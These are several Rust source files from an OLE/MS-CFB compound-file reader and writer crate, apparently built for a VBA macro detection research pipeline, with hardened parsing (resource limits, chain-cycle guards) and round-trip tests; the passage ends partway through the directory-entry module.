        out.extend_from_slice(&first_difat.to_le_bytes());
        out.extend_from_slice(&(difat_sectors as u32).to_le_bytes());
        for i in 0..HEADER_DIFAT_ENTRIES {
            let v = if i < fat_sectors.min(HEADER_DIFAT_ENTRIES) {
                (fat_start + i) as u32
            } else {
                FREESECT
            };
            out.extend_from_slice(&v.to_le_bytes());
        }
        debug_assert_eq!(out.len(), 512);

        // DIFAT sectors (FAT sector numbers beyond the first 109).
        for ds in 0..difat_sectors {
            let mut sector = Vec::with_capacity(sect);
            for i in 0..(entries_per_fat - 1) {
                let fat_idx = HEADER_DIFAT_ENTRIES + ds * (entries_per_fat - 1) + i;
                let v = if fat_idx < fat_sectors {
                    (fat_start + fat_idx) as u32
                } else {
                    FREESECT
                };
                sector.extend_from_slice(&v.to_le_bytes());
            }
            let next = if ds + 1 < difat_sectors {
                (difat_start + ds + 1) as u32
            } else {
                ENDOFCHAIN
            };
            sector.extend_from_slice(&next.to_le_bytes());
            out.extend_from_slice(&sector);
        }

        // FAT sectors.
        for entry in &fat {
            out.extend_from_slice(&entry.to_le_bytes());
        }

        // Directory sectors.
        let mut dir_bytes = Vec::with_capacity(dir_sectors * sect);
        for (id, entry) in flat.iter().enumerate() {
            let mut raw = [0u8; DIR_ENTRY_SIZE];
            let units: Vec<u16> = entry.name.encode_utf16().collect();
            for (i, &u) in units.iter().take(31).enumerate() {
                raw[2 * i..2 * i + 2].copy_from_slice(&u.to_le_bytes());
            }
            let name_len = ((units.len().min(31) + 1) * 2) as u16;
            raw[64..66].copy_from_slice(&name_len.to_le_bytes());
            raw[66] = entry.object_type.to_u8();
            raw[67] = 1; // black
            raw[68..72].copy_from_slice(&entry.left.to_le_bytes());
            raw[72..76].copy_from_slice(&entry.right.to_le_bytes());
            raw[76..80].copy_from_slice(&entry.child.to_le_bytes());
            // CLSID (80..96), state (96..100), times (100..116): zero.
            raw[116..120].copy_from_slice(&start_sector[id].to_le_bytes());
            let size = match (&entry.data, id) {
                (_, 0) => mini_stream.len() as u64,
                (Some(d), _) => d.len() as u64,
                (None, _) => 0,
            };
            raw[120..128].copy_from_slice(&size.to_le_bytes());
            dir_bytes.extend_from_slice(&raw);
        }
        // Pad the directory with unallocated entries (type 0, all-FF links
        // per convention).
        while dir_bytes.len() < dir_sectors * sect {
            let mut raw = [0u8; DIR_ENTRY_SIZE];
            raw[68..80].copy_from_slice(&[0xFF; 12]);
            dir_bytes.extend_from_slice(&raw);
        }
        out.extend_from_slice(&dir_bytes);

        // MiniFAT sectors.
        let mut minifat_bytes = Vec::with_capacity(minifat_sectors * sect);
        for entry in &minifat {
            minifat_bytes.extend_from_slice(&entry.to_le_bytes());
        }
        while minifat_bytes.len() < minifat_sectors * sect {
            minifat_bytes.extend_from_slice(&FREESECT.to_le_bytes());
        }
        out.extend_from_slice(&minifat_bytes);

        // Mini stream sectors.
        let mut ms = mini_stream.clone();
        ms.resize(ministream_sectors * sect, 0);
        out.extend_from_slice(&ms);

        // Regular streams.
        for (_, data) in &regular {
            out.extend_from_slice(data);
            let pad = sectors_of(data.len()) * sect - data.len();
            out.extend(std::iter::repeat_n(0u8, pad));
        }

        debug_assert_eq!(out.len(), 512 + total_sectors * sect);
        out
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::OleFile;

    #[test]
    fn empty_file_roundtrips() {
        let bytes = OleBuilder::new().build();
        let ole = OleFile::parse(&bytes).unwrap();
        assert_eq!(ole.root().object_type, ObjectType::Root);
        assert!(ole.stream_paths().unwrap().is_empty());
    }

    #[test]
    fn small_stream_lives_in_mini_stream() {
        let mut b = OleBuilder::new();
        b.add_stream("small", b"tiny").unwrap();
        let bytes = b.build();
        let ole = OleFile::parse(&bytes).unwrap();
        assert_eq!(ole.open_stream("small").unwrap(), b"tiny");
    }

    #[test]
    fn large_stream_lives_in_fat_chain() {
        let payload: Vec<u8> = (0..10_000).map(|i| (i % 256) as u8).collect();
        let mut b = OleBuilder::new();
        b.add_stream("big", &payload).unwrap();
        let ole = OleFile::parse(&b.build()).unwrap();
        assert_eq!(ole.open_stream("big").unwrap(), payload);
    }

    #[test]
    fn cutoff_boundary_sizes() {
        for size in [4094usize, 4095, 4096, 4097] {
            let payload = vec![0xA5u8; size];
            let mut b = OleBuilder::new();
            b.add_stream("s", &payload).unwrap();
            let ole = OleFile::parse(&b.build()).unwrap();
            assert_eq!(ole.open_stream("s").unwrap(), payload, "size {size}");
        }
    }

    #[test]
    fn empty_stream_roundtrips() {
        let mut b = OleBuilder::new();
        b.add_stream("empty", b"").unwrap();
        let ole = OleFile::parse(&b.build()).unwrap();
        assert_eq!(ole.open_stream("empty").unwrap(), b"");
    }

    #[test]
    fn nested_storages() {
        let mut b = OleBuilder::new();
        b.add_stream("Macros/VBA/dir", b"dir data").unwrap();
        b.add_stream("Macros/VBA/Module1", b"module data").unwrap();
        b.add_stream("Macros/PROJECT", b"project").unwrap();
        b.add_stream("WordDocument", &vec![1u8; 5000]).unwrap();
        let ole = OleFile::parse(&b.build()).unwrap();
        let mut paths = ole.stream_paths().unwrap();
        paths.sort();
        assert_eq!(
            paths,
            vec![
                "Macros/PROJECT",
                "Macros/VBA/Module1",
                "Macros/VBA/dir",
                "WordDocument"
            ]
        );
        assert_eq!(ole.open_stream("Macros/VBA/dir").unwrap(), b"dir data");
        assert!(ole.exists("Macros/VBA"));
        assert!(!ole.exists("Macros/vba2"));
    }

    #[test]
    fn path_lookup_is_case_insensitive() {
        let mut b = OleBuilder::new();
        b.add_stream("Macros/VBA/ThisDocument", b"x").unwrap();
        let ole = OleFile::parse(&b.build()).unwrap();
        assert_eq!(ole.open_stream("macros/vba/thisdocument").unwrap(), b"x");
    }

    #[test]
    fn duplicate_stream_rejected() {
        let mut b = OleBuilder::new();
        b.add_stream("a", b"1").unwrap();
        assert!(matches!(
            b.add_stream("a", b"2"),
            Err(OleError::DuplicatePath(_))
        ));
    }

    #[test]
    fn stream_storage_collision_rejected() {
        let mut b = OleBuilder::new();
        b.add_stream("a", b"1").unwrap();
        assert!(matches!(
            b.add_stream("a/b", b"2"),
            Err(OleError::WrongType(_))
        ));
    }

    #[test]
    fn invalid_names_rejected() {
        let mut b = OleBuilder::new();
        assert!(b.add_stream(&"n".repeat(40), b"x").is_err());
        assert!(b.add_stream("", b"x").is_err());
        assert!(b.add_storage("ok/b:d").is_err());
    }

    #[test]
    fn opening_storage_as_stream_fails() {
        let mut b = OleBuilder::new();
        b.add_stream("dir/leaf", b"x").unwrap();
        let ole = OleFile::parse(&b.build()).unwrap();
        assert!(matches!(
            ole.open_stream("dir"),
            Err(OleError::WrongType(_))
        ));
        assert!(matches!(
            ole.open_stream("nope"),
            Err(OleError::NotFound(_))
        ));
    }

    #[test]
    fn many_streams_force_multiple_dir_and_fat_sectors() {
        let mut b = OleBuilder::new();
        for i in 0..200 {
            b.add_stream(&format!("stream{i:03}"), format!("payload {i}").as_bytes())
                .unwrap();
        }
        // Plus some large ones to grow the FAT.
        for i in 0..10 {
            b.add_stream(&format!("big{i}"), &vec![i as u8; 100_000])
                .unwrap();
        }
        let ole = OleFile::parse(&b.build()).unwrap();
        assert_eq!(ole.stream_paths().unwrap().len(), 210);
        assert_eq!(ole.open_stream("stream123").unwrap(), b"payload 123");
        assert_eq!(ole.open_stream("big7").unwrap(), vec![7u8; 100_000]);
    }

    #[test]
    fn difat_sectors_are_written_for_huge_files() {
        // >109 FAT sectors requires 109*128 sectors of data ≈ 7.1 MB.
        let mut b = OleBuilder::new();
        b.add_stream("huge", &vec![0x5Au8; 7_400_000]).unwrap();
        let bytes = b.build();
        let ole = OleFile::parse(&bytes).unwrap();
        let data = ole.open_stream("huge").unwrap();
        assert_eq!(data.len(), 7_400_000);
        assert!(data.iter().all(|&b| b == 0x5A));
    }
}
