use std::error::Error;
use std::fmt;

use vbadet_faultpoint::BudgetExceeded;

/// Errors produced while reading or writing compound files.
#[derive(Debug, Clone, PartialEq, Eq)]
#[non_exhaustive]
pub enum OleError {
    /// The 8-byte CFB signature is missing.
    BadSignature,
    /// The header is malformed (bad byte order mark, sector shift, version…).
    BadHeader(&'static str),
    /// The file is shorter than a referenced sector requires.
    Truncated { sector: u32 },
    /// A FAT/miniFAT chain loops or exceeds the file's sector count.
    ChainCycle { start: u32 },
    /// A directory entry is malformed.
    BadDirEntry { id: u32, reason: &'static str },
    /// No entry exists at the requested path.
    NotFound(String),
    /// The path names a storage where a stream was expected (or vice versa).
    WrongType(String),
    /// A name exceeds the 31-UTF-16-code-unit limit or contains `/ \ : !`.
    InvalidName(String),
    /// A stream or storage already exists at this path.
    DuplicatePath(String),
    /// A configured resource limit was exceeded (sector count, directory
    /// entries, stream size…). Distinguished from malformed-structure errors
    /// so callers can report capped inputs as a typed outcome.
    LimitExceeded { what: &'static str, limit: usize },
    /// The caller's scan budget (wall-clock deadline or fuel allowance)
    /// tripped mid-parse; says nothing about the input's structure.
    DeadlineExceeded(BudgetExceeded),
}

impl From<BudgetExceeded> for OleError {
    fn from(why: BudgetExceeded) -> Self {
        OleError::DeadlineExceeded(why)
    }
}

impl fmt::Display for OleError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            OleError::BadSignature => write!(f, "not a compound file (bad signature)"),
            OleError::BadHeader(msg) => write!(f, "malformed compound file header: {msg}"),
            OleError::Truncated { sector } => write!(f, "file truncated at sector {sector}"),
            OleError::ChainCycle { start } => {
                write!(
                    f,
                    "sector chain starting at {start} loops or overruns the file"
                )
            }
            OleError::BadDirEntry { id, reason } => {
                write!(f, "malformed directory entry {id}: {reason}")
            }
            OleError::NotFound(path) => write!(f, "no entry at path: {path}"),
            OleError::WrongType(path) => write!(f, "entry has unexpected type: {path}"),
            OleError::InvalidName(name) => write!(f, "invalid entry name: {name:?}"),
            OleError::DuplicatePath(path) => write!(f, "duplicate path: {path}"),
            OleError::LimitExceeded { what, limit } => {
                write!(f, "resource limit exceeded: {what} (limit {limit})")
            }
            OleError::DeadlineExceeded(why) => write!(f, "scan budget exceeded: {why}"),
        }
    }
}

impl Error for OleError {}
