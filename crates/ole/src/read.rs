//! Compound file parsing.

use crate::consts::*;
use crate::entry::{DirEntry, ObjectType};
use crate::OleError;
use vbadet_faultpoint::{faultpoint, Budget};
use vbadet_metrics::{Counter, Stage};

/// Resource caps applied while parsing a compound file.
///
/// Every field bounds an allocation or a loop that would otherwise be
/// controlled by attacker bytes; overruns surface as
/// [`OleError::LimitExceeded`] rather than memory exhaustion.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct OleLimits {
    /// Maximum number of sectors the file body may contain.
    pub max_sectors: usize,
    /// Maximum number of directory entries.
    pub max_dir_entries: usize,
    /// Maximum bytes read out of any single stream.
    pub max_stream_bytes: usize,
    /// Maximum storage-nesting depth of the directory tree. The tree walk
    /// is iterative (no stack growth either way), so this is purely a
    /// semantic cap: real documents nest a handful of levels, and a
    /// 10k-deep chain is only ever an attack shape.
    pub max_dir_depth: usize,
}

impl Default for OleLimits {
    fn default() -> Self {
        OleLimits {
            // 4 MiSectors × 512 B = 2 GiB of body, the historical cap.
            max_sectors: 1 << 22,
            max_dir_entries: 1 << 16,
            max_stream_bytes: 1 << 28,
            max_dir_depth: 512,
        }
    }
}

/// A parsed compound file.
///
/// Holds the decoded FAT/miniFAT and directory; stream contents are copied
/// out on demand by [`OleFile::open_stream`].
#[derive(Debug, Clone)]
pub struct OleFile {
    sector_size: usize,
    sectors: Vec<Vec<u8>>,
    fat: Vec<u32>,
    minifat: Vec<u32>,
    entries: Vec<DirEntry>,
    /// Mini stream contents (the root entry's chain), concatenated.
    mini_stream: Vec<u8>,
    limits: OleLimits,
    /// Shared cooperative budget; chain walks charge one unit per sector.
    budget: Budget,
}

fn u16_at(data: &[u8], off: usize) -> u16 {
    u16::from_le_bytes([data[off], data[off + 1]])
}

fn u32_at(data: &[u8], off: usize) -> u32 {
    u32::from_le_bytes([data[off], data[off + 1], data[off + 2], data[off + 3]])
}

fn u64_at(data: &[u8], off: usize) -> u64 {
    let mut b = [0u8; 8];
    b.copy_from_slice(&data[off..off + 8]);
    u64::from_le_bytes(b)
}

impl OleFile {
    /// Parses a compound file from `data`.
    ///
    /// # Errors
    ///
    /// Returns an error for a missing signature, malformed header, truncated
    /// sectors, looping sector chains, or a malformed directory.
    pub fn parse(data: &[u8]) -> Result<Self, OleError> {
        Self::parse_with_limits(data, OleLimits::default())
    }

    /// Parses a compound file under explicit resource limits.
    ///
    /// # Errors
    ///
    /// In addition to the malformed-input errors of [`OleFile::parse`],
    /// returns [`OleError::LimitExceeded`] when the file requests more
    /// sectors, directory entries, or stream bytes than `limits` allows.
    pub fn parse_with_limits(data: &[u8], limits: OleLimits) -> Result<Self, OleError> {
        Self::parse_budgeted(data, limits, Budget::unlimited())
    }

    /// Like [`OleFile::parse_with_limits`] but charges parsing work — and
    /// all later stream reads through the returned file — against a
    /// cooperative scan [`Budget`] (roughly one fuel unit per sector).
    ///
    /// # Errors
    ///
    /// As [`OleFile::parse_with_limits`], plus
    /// [`OleError::DeadlineExceeded`] when the budget trips.
    pub fn parse_budgeted(
        data: &[u8],
        limits: OleLimits,
        budget: Budget,
    ) -> Result<Self, OleError> {
        faultpoint!("ole::parse", Err(OleError::BadSignature));
        let _t = budget.metrics().time(Stage::OleParseNs);
        if data.len() < 512 || data[..8] != SIGNATURE {
            return Err(OleError::BadSignature);
        }
        let major = u16_at(data, 26);
        let byte_order = u16_at(data, 28);
        if byte_order != 0xFFFE {
            return Err(OleError::BadHeader("byte order mark"));
        }
        let sector_shift = u16_at(data, 30);
        let sector_size = match (major, sector_shift) {
            (3, 9) => 512usize,
            (4, 12) => 4096usize,
            _ => return Err(OleError::BadHeader("unsupported version/sector shift")),
        };
        let mini_shift = u16_at(data, 32);
        if mini_shift != 6 {
            return Err(OleError::BadHeader("mini sector shift"));
        }
        // The header's FAT/DIFAT sector *counts* (offsets 44 and 72) are
        // deliberately ignored: they are attacker-controlled and everything
        // they describe is recoverable from the chains actually present.
        let first_dir_sector = u32_at(data, 48);
        let first_minifat_sector = u32_at(data, 60);
        let num_minifat_sectors = u32_at(data, 64) as usize;
        let first_difat_sector = u32_at(data, 68);

        // Split the body into sectors (a trailing partial sector is padded;
        // some writers truncate the final sector).
        let body = if sector_size == 512 {
            &data[512..]
        } else {
            &data[4096.min(data.len())..]
        };
        let sector_count = body.len().div_ceil(sector_size);
        if sector_count > limits.max_sectors {
            return Err(OleError::LimitExceeded {
                what: "sector count",
                limit: limits.max_sectors,
            });
        }
        // Sector split, DIFAT walk and FAT build are all linear in the
        // sector count; one upfront charge covers them.
        budget.charge(sector_count as u64 / 8 + 1)?;
        budget
            .metrics()
            .count(Counter::OleSectors, sector_count as u64);
        let mut sectors = Vec::with_capacity(sector_count);
        for i in 0..sector_count {
            let start = i * sector_size;
            let end = ((i + 1) * sector_size).min(body.len());
            let mut sector = body[start..end].to_vec();
            sector.resize(sector_size, 0);
            sectors.push(sector);
        }

        // DIFAT: 109 header entries plus chained DIFAT sectors.
        let mut difat: Vec<u32> = (0..HEADER_DIFAT_ENTRIES)
            .map(|i| u32_at(data, 76 + 4 * i))
            .take_while(|&s| s != FREESECT)
            .collect();
        let entries_per_difat = sector_size / 4 - 1;
        let mut difat_sector = first_difat_sector;
        // Visited-sector guard: `num_difat_sectors` is an unvalidated header
        // field, so the chain is bounded by what physically exists, not by
        // what the header claims.
        let mut difat_visited = vec![false; sector_count];
        while difat_sector <= MAXREGSECT {
            let sector = sectors
                .get(difat_sector as usize)
                .ok_or(OleError::Truncated {
                    sector: difat_sector,
                })?;
            if std::mem::replace(&mut difat_visited[difat_sector as usize], true) {
                return Err(OleError::ChainCycle {
                    start: first_difat_sector,
                });
            }
            budget.metrics().count(Counter::OleDifatSectors, 1);
            for i in 0..entries_per_difat {
                let v = u32_at(sector, 4 * i);
                if v != FREESECT {
                    difat.push(v);
                }
            }
            difat_sector = u32_at(sector, sector_size - 4);
        }

        // FAT: concatenation of all FAT sectors listed in the DIFAT. The
        // allocation is sized by the DIFAT actually present — never by the
        // header's (attacker-controlled) `num_fat_sectors` count.
        let mut fat = Vec::with_capacity(difat.len().min(sector_count) * (sector_size / 4));
        for &fs in difat.iter() {
            if fs > MAXREGSECT {
                continue;
            }
            let sector = sectors
                .get(fs as usize)
                .ok_or(OleError::Truncated { sector: fs })?;
            budget.metrics().count(Counter::OleFatSectors, 1);
            for i in 0..sector_size / 4 {
                fat.push(u32_at(sector, 4 * i));
            }
        }

        let file = OleFile {
            sector_size,
            sectors,
            fat,
            minifat: Vec::new(),
            entries: Vec::new(),
            mini_stream: Vec::new(),
            limits,
            budget,
        };

        // Directory: bounded by the entry cap instead of `usize::MAX`; the
        // chain walk itself carries a visited-sector guard.
        let dir_cap = limits.max_dir_entries * DIR_ENTRY_SIZE;
        let dir_data = file.read_chain(first_dir_sector, dir_cap.saturating_add(1))?;
        if dir_data.len() > dir_cap {
            return Err(OleError::LimitExceeded {
                what: "directory entries",
                limit: limits.max_dir_entries,
            });
        }
        let mut entries = Vec::new();
        for (id, chunk) in dir_data.chunks_exact(DIR_ENTRY_SIZE).enumerate() {
            entries.push(Self::parse_dir_entry(id as u32, chunk)?);
        }
        if entries.is_empty() || entries[0].object_type != ObjectType::Root {
            return Err(OleError::BadDirEntry {
                id: 0,
                reason: "missing root entry",
            });
        }

        // MiniFAT + mini stream.
        let minifat_data =
            file.read_chain_checked(first_minifat_sector, num_minifat_sectors * sector_size)?;
        let minifat: Vec<u32> = minifat_data.chunks_exact(4).map(|c| u32_at(c, 0)).collect();
        let mini_stream = file.read_chain(entries[0].start_sector, entries[0].size as usize)?;

        file.budget.metrics().count(Counter::OleParses, 1);
        file.budget
            .metrics()
            .count(Counter::OleDirEntries, entries.len() as u64);
        Ok(OleFile {
            minifat,
            entries,
            mini_stream,
            ..file
        })
    }

    fn parse_dir_entry(id: u32, raw: &[u8]) -> Result<DirEntry, OleError> {
        let name_len_bytes = u16_at(raw, 64) as usize;
        let object_type = ObjectType::from_u8(raw[66]).ok_or(OleError::BadDirEntry {
            id,
            reason: "invalid object type",
        })?;
        let name = if object_type == ObjectType::Unknown || name_len_bytes < 2 {
            String::new()
        } else {
            if name_len_bytes > 64 || !name_len_bytes.is_multiple_of(2) {
                return Err(OleError::BadDirEntry {
                    id,
                    reason: "bad name length",
                });
            }
            let units: Vec<u16> = (0..(name_len_bytes - 2) / 2)
                .map(|i| u16_at(raw, 2 * i))
                .collect();
            String::from_utf16_lossy(&units)
        };
        Ok(DirEntry {
            name,
            object_type,
            left: u32_at(raw, 68),
            right: u32_at(raw, 72),
            child: u32_at(raw, 76),
            start_sector: u32_at(raw, 116),
            size: u64_at(raw, 120),
        })
    }

    /// Follows a FAT chain, returning at most `max_len` bytes. A
    /// visited-sector guard turns cyclic or self-referencing chains into
    /// [`OleError::ChainCycle`] instead of an unbounded walk.
    fn read_chain(&self, start: u32, max_len: usize) -> Result<Vec<u8>, OleError> {
        faultpoint!(
            "ole::read_chain",
            Err(OleError::Truncated { sector: start })
        );
        self.budget.metrics().count(Counter::OleChainReads, 1);
        let mut out = Vec::new();
        let mut sector = start;
        let mut visited = vec![false; self.sectors.len()];
        while sector <= MAXREGSECT {
            self.budget.charge(1)?;
            let data = self
                .sectors
                .get(sector as usize)
                .ok_or(OleError::Truncated { sector })?;
            if std::mem::replace(&mut visited[sector as usize], true) {
                return Err(OleError::ChainCycle { start });
            }
            out.extend_from_slice(data);
            sector = *self
                .fat
                .get(sector as usize)
                .ok_or(OleError::Truncated { sector })?;
            if out.len() >= max_len {
                break;
            }
        }
        out.truncate(max_len);
        self.budget
            .metrics()
            .count(Counter::OleChainBytes, out.len() as u64);
        Ok(out)
    }

    /// Like [`Self::read_chain`] but tolerates `ENDOFCHAIN` starts for empty
    /// structures.
    fn read_chain_checked(&self, start: u32, max_len: usize) -> Result<Vec<u8>, OleError> {
        if start > MAXREGSECT {
            return Ok(Vec::new());
        }
        self.read_chain(start, max_len)
    }

    /// Follows a miniFAT chain through the mini stream, with the same
    /// visited-sector cycle guard as [`Self::read_chain`].
    fn read_mini_chain(&self, start: u32, max_len: usize) -> Result<Vec<u8>, OleError> {
        self.budget.metrics().count(Counter::OleChainReads, 1);
        let mut out = Vec::new();
        let mut sector = start;
        let mut visited = vec![false; self.minifat.len()];
        while sector <= MAXREGSECT {
            self.budget.charge(1)?;
            if (sector as usize) < visited.len()
                && std::mem::replace(&mut visited[sector as usize], true)
            {
                return Err(OleError::ChainCycle { start });
            }
            let begin = sector as usize * MINI_SECTOR_SIZE;
            let end = begin + MINI_SECTOR_SIZE;
            if end > self.mini_stream.len() {
                return Err(OleError::Truncated { sector });
            }
            out.extend_from_slice(&self.mini_stream[begin..end]);
            sector = *self
                .minifat
                .get(sector as usize)
                .ok_or(OleError::Truncated { sector })?;
            if out.len() >= max_len {
                break;
            }
        }
        out.truncate(max_len);
        self.budget
            .metrics()
            .count(Counter::OleChainBytes, out.len() as u64);
        Ok(out)
    }

    /// All directory entries, including unallocated ones, indexed by entry id.
    pub fn entries(&self) -> &[DirEntry] {
        &self.entries
    }

    /// The root storage entry.
    pub fn root(&self) -> &DirEntry {
        &self.entries[0]
    }

    /// The sector size of the parsed file (512 or 4096).
    pub fn sector_size(&self) -> usize {
        self.sector_size
    }

    /// Resolves a `/`-separated path to a directory entry id.
    fn resolve(&self, path: &str) -> Result<u32, OleError> {
        let mut current = 0u32; // root
        for component in path.split('/').filter(|c| !c.is_empty()) {
            let storage = &self.entries[current as usize];
            if !storage.is_storage() {
                return Err(OleError::WrongType(path.to_string()));
            }
            current = self
                .find_child(storage.child, component)
                .ok_or_else(|| OleError::NotFound(path.to_string()))?;
        }
        Ok(current)
    }

    /// Searches a sibling tree for `name` (BST walk with a linear fallback:
    /// real-world writers frequently emit unbalanced or mis-colored trees,
    /// so we do not rely on the BST invariant).
    fn find_child(&self, child: u32, name: &str) -> Option<u32> {
        let mut stack = vec![child];
        let mut visited = 0usize;
        while let Some(id) = stack.pop() {
            if id == NOSTREAM || (id as usize) >= self.entries.len() {
                continue;
            }
            visited += 1;
            if visited > self.entries.len() {
                return None; // malformed cyclic tree
            }
            let entry = &self.entries[id as usize];
            if crate::entry::name_cmp(&entry.name, name) == std::cmp::Ordering::Equal {
                return Some(id);
            }
            stack.push(entry.left);
            stack.push(entry.right);
        }
        None
    }

    /// Reads the stream at a `/`-separated path, e.g. `"Macros/VBA/dir"`.
    ///
    /// # Errors
    ///
    /// Fails when the path does not exist, names a storage, or the underlying
    /// chains are malformed.
    pub fn open_stream(&self, path: &str) -> Result<Vec<u8>, OleError> {
        let id = self.resolve(path)?;
        let entry = &self.entries[id as usize];
        if !entry.is_stream() {
            return Err(OleError::WrongType(path.to_string()));
        }
        self.read_stream_entry(entry)
    }

    /// Reads the stream described by `entry` (which must be a stream entry of
    /// this file).
    pub fn read_stream_entry(&self, entry: &DirEntry) -> Result<Vec<u8>, OleError> {
        if entry.size > self.limits.max_stream_bytes as u64 {
            return Err(OleError::LimitExceeded {
                what: "stream size",
                limit: self.limits.max_stream_bytes,
            });
        }
        let size = entry.size as usize;
        if entry.size < MINI_STREAM_CUTOFF as u64 {
            self.read_mini_chain(entry.start_sector, size)
        } else {
            self.read_chain(entry.start_sector, size)
        }
    }

    /// Whether a stream or storage exists at `path`.
    pub fn exists(&self, path: &str) -> bool {
        self.resolve(path).is_ok()
    }

    /// Returns the `/`-separated paths of all streams, in directory order.
    ///
    /// The walk is iterative — an explicit work stack, never recursion —
    /// so hostile trees cannot exhaust the thread stack regardless of the
    /// configured depth cap.
    ///
    /// # Errors
    ///
    /// Returns [`OleError::LimitExceeded`] when storage nesting exceeds
    /// [`OleLimits::max_dir_depth`].
    pub fn stream_paths(&self) -> Result<Vec<String>, OleError> {
        enum Work {
            /// A stream path ready to emit.
            Emit(String),
            /// A storage to expand: (entry id, path prefix, nesting depth).
            Expand(u32, String, usize),
        }
        let mut out = Vec::new();
        let mut work = vec![Work::Expand(0, String::new(), 0)];
        while let Some(item) = work.pop() {
            let (id, prefix, depth) = match item {
                Work::Emit(path) => {
                    out.push(path);
                    continue;
                }
                Work::Expand(id, prefix, depth) => (id, prefix, depth),
            };
            if depth > self.limits.max_dir_depth {
                return Err(OleError::LimitExceeded {
                    what: "directory depth",
                    limit: self.limits.max_dir_depth,
                });
            }
            let entry = &self.entries[id as usize];
            // Collect this storage's children via the sibling tree.
            let mut children = Vec::new();
            let mut stack = vec![entry.child];
            while let Some(cid) = stack.pop() {
                if cid == NOSTREAM || (cid as usize) >= self.entries.len() {
                    continue;
                }
                if children.len() > self.entries.len() {
                    // Malformed cyclic sibling tree: stop expanding it.
                    children.clear();
                    break;
                }
                children.push(cid);
                let c = &self.entries[cid as usize];
                stack.push(c.left);
                stack.push(c.right);
            }
            children.sort_unstable();
            // LIFO stack: push in reverse so children surface in order.
            for cid in children.into_iter().rev() {
                let c = &self.entries[cid as usize];
                let path = if prefix.is_empty() {
                    c.name.clone()
                } else {
                    format!("{prefix}/{}", c.name)
                };
                match c.object_type {
                    ObjectType::Stream => work.push(Work::Emit(path)),
                    ObjectType::Storage => work.push(Work::Expand(cid, path, depth + 1)),
                    _ => {}
                }
            }
        }
        Ok(out)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn rejects_non_cfb() {
        assert!(matches!(
            OleFile::parse(b"PK\x03\x04"),
            Err(OleError::BadSignature)
        ));
        assert!(matches!(
            OleFile::parse(&[0u8; 600]),
            Err(OleError::BadSignature)
        ));
    }

    #[test]
    fn rejects_bad_header_fields() {
        let mut data = vec![0u8; 1024];
        data[..8].copy_from_slice(&SIGNATURE);
        // Valid signature but zeroed header fields -> bad byte order.
        assert!(matches!(
            OleFile::parse(&data),
            Err(OleError::BadHeader("byte order mark"))
        ));
    }

    #[test]
    fn garbage_after_signature_never_panics() {
        let mut state = 12345u64;
        for len in [512usize, 700, 1536, 4096] {
            for _ in 0..40 {
                let mut data: Vec<u8> = (0..len)
                    .map(|_| {
                        state ^= state << 13;
                        state ^= state >> 7;
                        state ^= state << 17;
                        state as u8
                    })
                    .collect();
                data[..8].copy_from_slice(&SIGNATURE);
                let _ = OleFile::parse(&data); // must not panic
            }
        }
    }
}
