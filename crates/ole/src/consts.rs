//! MS-CFB constants.

/// Compound file signature.
pub const SIGNATURE: [u8; 8] = [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1];

/// FAT sentinel: free (unallocated) sector.
pub const FREESECT: u32 = 0xFFFF_FFFF;
/// FAT sentinel: end of a sector chain.
pub const ENDOFCHAIN: u32 = 0xFFFF_FFFE;
/// FAT sentinel: sector holds FAT entries.
pub const FATSECT: u32 = 0xFFFF_FFFD;
/// FAT sentinel: sector holds DIFAT entries.
pub const DIFSECT: u32 = 0xFFFF_FFFC;
/// Directory sentinel: no sibling/child.
pub const NOSTREAM: u32 = 0xFFFF_FFFF;

/// Maximum sector number usable as a regular sector.
pub const MAXREGSECT: u32 = 0xFFFF_FFFA;

/// v3 sector size (2^9).
pub const SECTOR_SIZE_V3: usize = 512;
/// Mini sector size (2^6).
pub const MINI_SECTOR_SIZE: usize = 64;
/// Streams strictly below this size live in the mini stream.
pub const MINI_STREAM_CUTOFF: u32 = 4096;
/// Size of one directory entry on disk.
pub const DIR_ENTRY_SIZE: usize = 128;
/// DIFAT entries stored directly in the header.
pub const HEADER_DIFAT_ENTRIES: usize = 109;
