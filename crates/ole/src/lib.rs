//! Hand-rolled [MS-CFB] Compound File Binary (OLE2) reader and writer.
//!
//! Legacy Office documents (`.doc`, `.xls`) and the `vbaProject.bin` part of
//! OOXML documents are OLE compound files: a FAT-based mini filesystem with a
//! directory tree of *storages* (directories) and *streams* (files). The
//! paper's extraction pipeline (olevba-equivalent) walks this structure to
//! find the VBA project; the corpus generator writes it.
//!
//! Version 3 files (512-byte sectors) are produced; both version 3 and
//! version 4 (4096-byte sectors) are parsed.
//!
//! # Examples
//!
//! ```
//! use vbadet_ole::{OleBuilder, OleFile};
//!
//! # fn main() -> Result<(), vbadet_ole::OleError> {
//! let mut builder = OleBuilder::new();
//! builder.add_stream("VBA/dir", b"compressed dir stream")?;
//! builder.add_stream("VBA/Module1", b"compressed module")?;
//! builder.add_stream("PROJECT", b"ID=\"{...}\"")?;
//! let bytes = builder.build();
//!
//! let ole = OleFile::parse(&bytes)?;
//! assert_eq!(ole.open_stream("VBA/dir")?, b"compressed dir stream");
//! assert!(ole.stream_paths()?.contains(&"PROJECT".to_string()));
//! # Ok(())
//! # }
//! ```

mod consts;
mod entry;
mod error;
mod read;
mod write;

pub use entry::{DirEntry, ObjectType};
pub use error::OleError;
pub use read::{OleFile, OleLimits};
pub use vbadet_faultpoint::{Budget, BudgetExceeded};
pub use write::OleBuilder;
