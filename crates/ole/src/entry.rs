//! Directory entries of a compound file.

use crate::OleError;

/// Kind of a directory entry.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum ObjectType {
    /// Unallocated entry.
    Unknown,
    /// A storage (directory).
    Storage,
    /// A stream (file).
    Stream,
    /// The root storage.
    Root,
}

impl ObjectType {
    pub(crate) fn from_u8(v: u8) -> Option<Self> {
        match v {
            0 => Some(ObjectType::Unknown),
            1 => Some(ObjectType::Storage),
            2 => Some(ObjectType::Stream),
            5 => Some(ObjectType::Root),
            _ => None,
        }
    }

    pub(crate) fn to_u8(self) -> u8 {
        match self {
            ObjectType::Unknown => 0,
            ObjectType::Storage => 1,
            ObjectType::Stream => 2,
            ObjectType::Root => 5,
        }
    }
}

/// One parsed 128-byte directory entry.
#[derive(Debug, Clone, PartialEq, Eq)]
